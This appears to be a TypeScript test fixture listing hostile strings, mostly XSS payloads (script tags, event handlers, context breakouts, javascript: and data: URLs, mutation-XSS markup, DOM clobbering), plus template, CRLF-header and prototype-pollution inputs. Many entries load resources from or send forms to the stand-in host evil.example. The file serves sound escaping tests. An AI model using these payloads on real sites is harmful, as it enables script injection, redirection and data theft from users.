/** A text that is active in a page when inserted unescaped. */
export interface Attack {
  /** The attempted attack, in plain words. */
  readonly kind: string
  readonly text: string
}

const away = '//evil.example'
const call = 'alert(1)'
const image = `<img src=x onerror=${call}>`
const drawing = `<svg onload=${call}>`

/** The fixed texts by attack, short enough for most fields. */
const byKind: Readonly<Record<string, readonly string[]>> = {
  'a script element': [
    `<script>${call}</script>`,
    `<script src=${away}></script>`,
    `<ScRiPt/x>${call}</sCrIpT >`,
    `<svg><script>alert&lpar;1)</script>`,
    `<script\n>${call}</script\t>`,
  ],
  'an attribute that runs': [
    image,
    drawing,
    `<svg/onload=${call}>`,
    `<p onclick=${call}>x</p>`,
    `<p oNcLiCk\n=\n"${call}">x</p>`,
    `<b onfocus=${call} tabindex=1>`,
    `<details open ontoggle=${call}>x`,
    `<input autofocus onfocus=${call}>`,
    `<video src=x onerror=${call}>`,
    `<a onmouseover="${call}">x</a>`,
    `<body onload=${call}>`,
    `<p onscrollend=${call}>`,
    `<img src=x:x onerror=&#97;lert(1)>`,
  ],
  'leaving an attribute': [
    `">${drawing}`,
    `'>${drawing}`,
    `" onfocus=${call} autofocus x="`,
    `' onfocus=${call} autofocus x='`,
    `x onfocus=${call} autofocus tabindex=1`,
    `"><script>${call}</script>`,
  ],
  'leaving a text': [
    `</title>${image}`,
    `</textarea>${image}`,
    `</style>${image}`,
    `</script>${image}`,
    `-->${image}`,
    `--!>${image}`,
    `</main></div><script>${call}</script>`,
    `</noscript>${image}`,
  ],
  'leaving the data of a page': [
    `</script><script>${call}</script>`,
    `<!--<script>${call}</script>`,
    `\u2028</script>\u2029<script>${call}</script>`,
    `"}</script><script>${call}//`,
  ],
  'an address that runs': [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `\u0001javascript:${call}`,
    `java\tscript:${call}`,
    `java\nscript:${call}`,
    `javascript:${away}/%0a${call}`,
    `javascript&colon;${call}`,
    `vbscript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  ],
  'an address that leaves the site unseen': [`${away}/x`, `/\\evil.example`, `\\\\evil.example`, `/\t/evil.example`, `https:${away}@x`],
  'a link that runs': [
    `<a href="javascript:${call}">x</a>`,
    `<a href="&#106;avascript:${call}">x</a>`,
    `<a href="java&Tab;script:${call}">x</a>`,
    `<a href="\u0001 javascript:${call}">x</a>`,
    `<a href="data:text/html,<script>${call}</script>">x</a>`,
    `<map><area href="javascript:${call}"></map>`,
    `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
    `<math href="javascript:${call}">x</math>`,
    `<a ping=${away} href=/>x</a>`,
  ],
  'a form that sends elsewhere': [
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<form action=${away}><button>x</button></form>`,
    `<button formaction="javascript:${call}">x</button>`,
    `<input type=image src=x formaction=${away}>`,
  ],
  'a document inside the document': [
    `<iframe src="javascript:${call}"></iframe>`,
    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
    `<object data="javascript:${call}"></object>`,
    `<object data="data:text/html,<script>${call}</script>"></object>`,
    `<embed src=${away}>`,
    `<frameset><frame src="javascript:${call}"></frameset>`,
  ],
  'what changes the whole document': [
    `<base href=${away}>`,
    `<meta http-equiv=refresh content="0;url=${away}">`,
    `<link rel=stylesheet href=${away}>`,
    `<link rel=preload as=script href=${away}>`,
    `<style>@import "${away}"</style>`,
    `<style>*{background:url(${away})}</style>`,
  ],
  'a style that asks elsewhere': [
    `<p style="background:url(${away}/x)">x</p>`,
    `<p style="background:u\\72l(${away}/x)">x</p>`,
    `red;background:url(${away}/x)`,
    `red}*{background:url(${away}/x)}`,
    `red;}</style><script>${call}</script>`,
    `#fff;--x:url(${away}/x);background:var(--x)`,
  ],
  'a drawing that runs': [
    `<svg><set attributeName=onmouseover to=${call} /></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${call}" /><text y=9>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
    `<svg><image href=x onerror=${call} /></svg>`,
    `<svg><use href="${away}/x.svg#x" /></svg>`,
  ],
  'markup that is read otherwise the second time': [
    `<svg><style><p title="</style>${image}">`,
    `<math><style><p title="</style>${image}">`,
    `<noscript><p title="</noscript>${image}">`,
    `<svg><title><p title="</title>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<textarea><p title="</textarea>${image}">`,
    `<table><caption>${drawing}`,
    `<select><option>${drawing}</select>${image}`,
    `<template>${image}</template><script>${call}</script>`,
    `<p title="<!--">${image}<!-- -->`,
    `<svg><![CDATA[><p title="]]>${image}">`,
    `<math><mtext><table><mglyph><style><p title="</style>${image}">`,
  ],
  'a name that takes the place of a property': [
    `<a id=location href=/x>x</a>`,
    `<img name=body src=/x>`,
    `<form id=cookie><input name=attributes></form>`,
    `<p id=__proto__>x</p><a id=forms>x</a>`,
  ],
  'a picture from elsewhere': [
    `<img src=${away}/x>`,
    `<img srcset="${away}/x 1x">`,
    `<picture><source srcset=${away}/x><img></picture>`,
    `<video poster=${away}/x></video>`,
    `<audio src=${away}/x autoplay></audio>`,
    `<table background=${away}/x><tr><td>x</table>`,
  ],
  'markup that swallows what follows': [`<img src='${away}/?`, `<a href="/x`, `<textarea>`, `<!-- `, `<plaintext>`, `<iframe`],
}

/** Texts for interpreters that are not present. They are harmless in any page and must stay so. */
const quiet: Readonly<Record<string, readonly string[]>> = {
  'a template': ['{{COMPANY_NAME}}', '${alert(1)}', "{{constructor.constructor('alert(1)')()}}", '<%= 7*7 %>', '#{7*7}'],
  'a line of a header': ['x\r\nSet-Cookie: token=x', 'x\r\n\r\n<script>alert(1)</script>'],
  'signs that others make of others': [
    '＜script＞alert(1)＜/script＞',
    '\u202e<gpj.x',
    'ſcript:alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  'a key of every object': ['__proto__', 'constructor', 'hasOwnProperty', 'toString'],
}

const listed = (kinds: Readonly<Record<string, readonly string[]>>): Attack[] =>
  Object.entries(kinds).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))

/** Each of these is active in a page that inserts it unescaped: tests/e2e/safety/hostile-strings.spec.ts verifies it. */
export const liveAttacks: readonly Attack[] = listed(byKind)

/** All fixed texts. */
export const attacks: readonly Attack[] = [...liveAttacks, ...listed(quiet)]
